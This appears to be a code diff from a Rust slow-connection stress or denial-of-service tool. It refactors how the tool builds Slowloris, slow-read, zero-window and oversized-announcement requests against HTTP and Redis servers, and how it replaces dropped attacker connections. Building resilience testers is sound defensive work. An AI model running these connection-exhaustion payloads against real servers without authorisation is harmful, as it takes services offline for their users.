@@ -288,8 +288,8 @@ impl Flood {
 
 /// Returns the first bytes of an attacker.
 fn bait(kind: ShapeName, plan: &Plan) -> Vec<u8> {
-    let wire = Wire::new(&plan.target, plan.size, 1, plan.send.as_deref());
-    let (path, host) = (&plan.target.path, &plan.target.host);
+    let wire = Wire::new(plan, 1);
+    let head = |method, length| plan.request.head(&plan.target, method, length);
     match (kind, plan.target.scheme) {
         (ShapeName::SlowRead | ShapeName::ZeroWindow, _) => {
             let request = wire.request();
@@ -299,17 +299,14 @@ fn bait(kind: ShapeName, plan: &Plan) -> Vec<u8> {
             format!("*2\r\n$4\r\nECHO\r\n${DRIPPED_BULK}\r\n").into_bytes()
         }
         // The header's value never ends.
-        (ShapeName::Slowloris, Scheme::Http) => {
-            format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nX-a: ").into_bytes()
-        }
+        (ShapeName::Slowloris, Scheme::Http) => [head("GET", None), b"X-a: ".to_vec()].concat(),
         // The line never ends.
         (ShapeName::Slowloris, _) => {
             let request = wire.request();
             request.split(|byte| matches!(byte, b'\r' | b'\n')).next().unwrap_or_default().to_vec()
         }
         (ShapeName::Announce, Scheme::Http) => {
-            format!("POST {path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1073741824\r\n\r\n")
-                .into_bytes()
+            [head("POST", Some(1 << 30)), b"\r\n".to_vec()].concat()
         }
         // 512 MiB less one byte: the longest string that Redis accepts (proto-max-bulk-len).
         (ShapeName::Announce, _) => b"*2\r\n$4\r\nECHO\r\n$536870911\r\n".to_vec(),
@@ -372,7 +369,7 @@ impl<N: Net> Shape<N> for Flood {
             ShapeName::Rst => {
                 world.reset(slot);
                 if let Some(attackers) = &mut self.attackers {
-                    attackers.more();
+                    attackers.replace(world, slot);
                 }
             }
             ShapeName::Vanish => self.vanish(world, slot),
@@ -384,10 +381,7 @@ impl<N: Net> Shape<N> for Flood {
         let peer = &world.peers[slot as usize];
         match (peer.role, &mut self.attackers) {
             (PROBE, _) => self.probes.failed(slot, world.now),
-            (_, Some(attackers)) if peer.flags.has(PeerFlags::CONNECTING) => {
-                attackers.again(world.now)
-            }
-            (_, Some(attackers)) => attackers.more(),
+            (_, Some(attackers)) => attackers.replace(world, slot),
             _ => {}
         }
     }
